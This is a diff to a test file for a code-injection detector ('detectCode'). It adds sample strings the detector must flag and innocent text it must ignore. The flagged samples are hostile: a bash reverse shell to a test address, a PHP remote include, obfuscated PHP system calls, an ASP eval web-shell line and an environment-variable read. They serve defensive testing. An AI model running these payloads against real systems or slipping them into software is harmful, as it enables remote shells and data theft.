@@ -23,6 +23,16 @@ describe('detectCode', () => {
     ['node-code', "require('child_process').exec('id')"],
     ['server-side-include', '<!--#exec cmd="ls" -->'],
     ['reverse-shell', 'bash >& /dev/tcp/192.0.2.1/4444'],
+    ['php-call', "(system)('id')"],
+    ['php-call', "('sys'.'tem')('id')"],
+    ['php-call', "include('http://192.0.2.7/x')"],
+    ['php-magic-method', '__construct'],
+    ['code-probe', 'print(123456789012345678-98765432109876);'],
+    ['code-probe', '${@print(chr(122).chr(97))}'],
+    ['asp-tag', '<%eval request("a")%>'],
+    ['python-code', "open('/x').read()"],
+    ['node-code', 'process.env.KEY'],
+    ['windows-script', 'Process.Start("calc")'],
   ])('finds %s in %s', (why, text) => {
     expect(words(text)).toContain(why);
   });
@@ -37,6 +47,11 @@ describe('detectCode', () => {
     'exit(2)',
     'eval',
     '印刷 print(1)',
+    'art print (30-40cm)',
+    'exit (10-20)',
+    'batteries not include (2)',
+    'a subprocess. The next one',
+    'process.environment',
     '() {',
   ])('leaves %s alone', (text) => {
     expect(words(text)).toEqual([]);
